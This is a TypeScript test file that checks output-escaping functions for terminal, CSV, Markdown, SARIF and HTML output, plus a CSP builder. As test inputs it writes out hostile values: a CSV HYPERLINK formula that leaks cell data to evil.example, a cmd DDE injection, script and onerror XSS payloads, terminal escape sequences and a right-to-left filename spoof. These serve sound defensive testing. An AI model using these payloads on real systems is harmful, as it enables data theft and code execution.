/* eslint-disable no-control-regex -- these tests look for control characters */
import {createHash} from 'node:crypto'

import fc from 'fast-check'
import MarkdownIt from 'markdown-it'

import {
  MARKDOWN_MAX_VALUE,
  contentSecurityPolicy,
  cspHash,
  escapeCsvField,
  escapeHtml,
  escapeMarkdown,
  escapeSarifText,
  escapeTerminal,
  markdownCodeBlock,
  stringifyJson,
  terminalLines,
} from '../../src/output/escape'
import {HOSTILE} from '../support/hostile'

/** Anything a terminal would act on: C0 (but line feed where allowed), DEL, C1, bidi controls, separators. */
const TERMINAL_ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
const markdown = new MarkdownIt({html: true, linkify: true})

describe('escapeTerminal', () => {
  it.each(Object.entries(HOSTILE))('leaves nothing a terminal acts on in %s', (_name, value) => {
    const escaped = escapeTerminal(value)
    expect(escaped).not.toMatch(TERMINAL_ACTIVE)
    expect(escaped).not.toContain('\n')
  })

  it('shows escape sequences as visible text rather than dropping them', () => {
    expect(escapeTerminal(HOSTILE.osc8Hyperlink)).toBe('\\x1b]8;;https://evil.example/\\x07click here\\x1b]8;;\\x07')
    expect(escapeTerminal(HOSTILE.clearScreen)).toBe('\\x1b[2J\\x1b[Hall clear')
    expect(escapeTerminal(HOSTILE.rightToLeftOverride)).toBe('invoice\\u202egpj.exe')
    expect(escapeTerminal('C1 CSI \u009b31m and OSC \u009d0;title\u009c')).toBe('C1 CSI \\x9b31m and OSC \\x9d0;title\\x9c')
    expect(escapeTerminal('two\nlines\r\tand a tab')).toBe('two\\nlines\\r\\tand a tab')
  })

  it('keeps line feeds, and only those, for multi-line text', () => {
    expect(escapeTerminal('line one\nline \u001b[31mtwo\r', {multiline: true})).toBe('line one\nline \\x1b[31mtwo\\r')
  })

  it('keeps printable text, including non-Latin scripts, as it is', () => {
    for (const text of ['arn:aws:iam::111122223333:role/Analyst', 'Ünïcödé 日本語 עברית', 'a\\b "quoted" <tag>']) expect(escapeTerminal(text)).toBe(text)
  })

  it('never lets a value reach the terminal with an active character, whatever the value (property)', () => {
    fc.assert(fc.property(fc.fullUnicodeString(), (value) => !TERMINAL_ACTIVE.test(escapeTerminal(value)) && !escapeTerminal(value).includes('\n')))
  })

  it('escapes each line of a renderer on its own, so a value cannot forge a line', () => {
    expect(terminalLines(['+ grant db.t', `  principal ${HOSTILE.forgedLine}`]).split('\n')).toEqual(['+ grant db.t', '  principal role/x\\nok  everything is fine'])
  })
})

describe('escapeCsvField', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`],
    ['+1+cmd|/C calc!A0', `"'+1+cmd|/C calc!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('neutralises a formula: %j', (value, expected) => {
    expect(escapeCsvField(value)).toBe(expected)
  })

  it('quotes as RFC 4180 says, and leaves plain fields alone', () => {
    expect(escapeCsvField('plain')).toBe('plain')
    expect(escapeCsvField('a,b')).toBe('"a,b"')
    expect(escapeCsvField('say "hi"')).toBe('"say ""hi"""')
    expect(escapeCsvField('two\nlines')).toBe('"two\nlines"')
    expect(escapeCsvField('a = b')).toBe('a = b')
  })

  it('makes terminal escapes and bidi overrides visible, keeping tab and line breaks as data', () => {
    expect(escapeCsvField(HOSTILE.clearScreen)).toBe('\\x1b[2J\\x1b[Hall clear')
    expect(escapeCsvField(HOSTILE.rightToLeftOverride)).toBe('invoice\\u202egpj.exe')
    expect(escapeCsvField('a\tb')).toBe('a\tb')
  })

  it('always yields one field that parses back (property)', () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        const field = escapeCsvField(value)
        // Unquoted: no separator, quote or line break. Quoted: inner quotes doubled.
        if (!field.startsWith('"')) return !/[",\r\n]/.test(field)
        const inner = field.slice(1, -1)
        return field.endsWith('"') && !/(^|[^"])"("")*($|[^"])/.test(inner.replaceAll('""', ''))
      }),
    )
  })
})

describe('escapeMarkdown', () => {
  const row = (...cells: string[]) => `| ${cells.join(' | ')} |`
  const table = (...cells: string[]) => markdown.render([row('a', 'b', 'c'), row('---', '---', '---'), row(...cells.map((cell) => escapeMarkdown(cell)))].join('\n'))

  it.each(Object.entries(HOSTILE))('keeps %s inside its table cell, with no link, image or HTML', (_name, value) => {
    const html = table('before', value, 'after')
    expect(html.match(/<td>/g)).toHaveLength(3)
    expect(html).toContain('<td>before</td>')
    expect(html).toContain('<td>after</td>')
    expect(html).not.toMatch(/<(a|img|script|code|svg|iframe)\b/i)
  })

  it('renders the value as written', () => {
    const value = '`a|b` <b>x</b> [y](https://evil.example) *z* _w_ ~~s~~ &amp; \\| !'
    const html = markdown.render(escapeMarkdown(value))
    expect(html).toBe(`<p>${value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</p>\n`)
  })

  it('escapes the characters the issue names, and breaks autolinks', () => {
    expect(escapeMarkdown('db.`t|1`<x>[y]')).toBe('db.\\`t\\|1\\`\\<x\\>\\[y\\]')
    expect(escapeMarkdown('https://evil.example')).toBe('https\\://evil.example')
    expect(escapeMarkdown('see WWW.evil.example')).toBe('see WWW\\.evil.example')
    expect(escapeMarkdown('admin@evil.example')).toBe('admin\\@evil.example')
  })

  it('cuts very long values and says so', () => {
    const escaped = escapeMarkdown('x'.repeat(5000))
    expect(escaped).toBe(`${'x'.repeat(MARKDOWN_MAX_VALUE)}... (truncated: ${5000 - MARKDOWN_MAX_VALUE} more characters)`)
    expect(escapeMarkdown('abcdef', {maxLength: 4})).toBe('abcd... (truncated: 2 more characters)')
    expect(escapeMarkdown('x'.repeat(MARKDOWN_MAX_VALUE))).toBe('x'.repeat(MARKDOWN_MAX_VALUE))
  })

  it('never cuts a surrogate pair in half', () => {
    expect(escapeMarkdown('ab😀c', {maxLength: 3})).toBe('ab... (truncated: 3 more characters)')
  })

  it('keeps any value inside one table cell (property)', () => {
    fc.assert(
      fc.property(fc.string({maxLength: 40}), fc.constantFrom('|', '`', '\\', '<', '[', ']', '\n', '\r'), (text, special) => {
        const html = table('x', `${special}${text}${special}`, 'y')
        return (html.match(/<td>/g) ?? []).length === 3 && html.includes('<td>x</td>') && html.includes('<td>y</td>') && !/<(a|img|code)\b/.test(html)
      }),
    )
  })
})

describe('markdownCodeBlock', () => {
  it('cannot be closed by a value with backtick fences or line breaks', () => {
    const block = markdownCodeBlock([`# ${HOSTILE.backticksInName}`, `+ ${HOSTILE.fenceBreakout}`], 'diff')
    expect(block[0]).toBe('````diff')
    expect(block.at(-1)).toBe('````')
    const html = markdown.render(block.join('\n'))
    expect(html.match(/<pre>/g)).toHaveLength(1)
    expect(html).not.toMatch(/<(a|img|script)\b/)
    expect(html).toContain('```')
  })

  it('uses three backticks when the content has none', () => {
    expect(markdownCodeBlock(['+ db.t  SELECT'])).toEqual(['```', '+ db.t  SELECT', '```'])
  })
})

describe('escapeSarifText', () => {
  it('escapes what SARIF embedded links and markdown viewers act on, without cutting', () => {
    expect(escapeSarifText('role [x](https://evil.example) `y` <z> a|b \\')).toBe('role \\[x\\](https\\://evil.example) \\`y\\` \\<z\\> a\\|b \\\\')
    expect(escapeSarifText('x'.repeat(MARKDOWN_MAX_VALUE * 2))).toBe('x'.repeat(MARKDOWN_MAX_VALUE * 2))
    // Control characters become visible escapes, whose backslashes are escaped in turn: a markdown viewer shows \x1b[2J.
    expect(markdown.render(escapeSarifText(HOSTILE.clearScreen))).toBe('<p>\\x1b[2J\\x1b[Hall clear</p>\n')
    expect(markdown.render(escapeSarifText(HOSTILE.osc8Hyperlink))).not.toMatch(/<a\b/)
  })
})

describe('escapeHtml', () => {
  it.each(Object.entries(HOSTILE))('leaves no tag, attribute break-out or active character in %s', (_name, value) => {
    const escaped = escapeHtml(value)
    expect(escaped).not.toMatch(/[<>"']/)
    expect(escaped).not.toMatch(TERMINAL_ACTIVE)
  })

  it('escapes a script user agent and an img onerror as text', () => {
    expect(escapeHtml(HOSTILE.scriptUserAgent)).toBe('&lt;script&gt;alert(document.cookie)&lt;/script&gt;')
    expect(escapeHtml(HOSTILE.imgOnerror)).toBe('{&quot;bucketName&quot;:&quot;&lt;img src=x onerror=alert(1)&gt;&quot;}')
    expect(escapeHtml(`" onmouseover="alert(1)`)).toBe('&quot; onmouseover=&quot;alert(1)')
    expect(escapeHtml("' autofocus onfocus='alert(1)")).toBe('&#39; autofocus onfocus=&#39;alert(1)')
    expect(escapeHtml('&lt; stays text')).toBe('&amp;lt; stays text')
  })
})

describe('contentSecurityPolicy', () => {
  it('allows no network and no inline script or style by default', () => {
    const meta = contentSecurityPolicy()
    expect(meta).toMatch(/^<meta http-equiv="Content-Security-Policy" content="[^"]+">$/)
    const policy = meta.match(/content="([^"]+)"/)![1].replaceAll('&#39;', "'")
    const directives = Object.fromEntries(policy.split('; ').map((directive) => [directive.split(' ')[0], directive.split(' ').slice(1).join(' ')]))
    expect(directives['default-src']).toBe("'none'")
    for (const name of ['script-src', 'style-src', 'img-src', 'connect-src', 'font-src', 'object-src', 'frame-src', 'base-uri', 'form-action']) expect(directives[name]).toBe("'none'")
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|https?:|\*/)
  })

  it('allows exactly the given inline scripts and styles, by SHA-256 hash', () => {
    const script = 'document.body.dataset.ready = "1"'
    const style = 'body { font-family: sans-serif }'
    const meta = contentSecurityPolicy({scripts: [script], styles: [style], dataImages: true}).replaceAll('&#39;', "'")
    const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
    expect(cspHash(script)).toBe(hash(script))
    expect(meta).toContain(`script-src ${hash(script)};`)
    expect(meta).toContain(`style-src ${hash(style)};`)
    expect(meta).toContain('img-src data:;')
  })
})

describe('stringifyJson', () => {
  it('keeps the data exact while writing terminal-active characters as JSON escapes', () => {
    const data = {values: Object.values(HOSTILE), c1: '\u009b2J', nested: {rtl: HOSTILE.rightToLeftOverride}}
    const text = stringifyJson(data)
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
    expect(text).toContain('\\u009b2J')
    expect(text).toContain('\\u202e')
    expect(JSON.parse(text)).toEqual(data)
  })

  it('round-trips any value (property)', () => {
    fc.assert(fc.property(fc.jsonValue(), (value) => JSON.stringify(JSON.parse(stringifyJson(value))) === JSON.stringify(value)))
  })
})
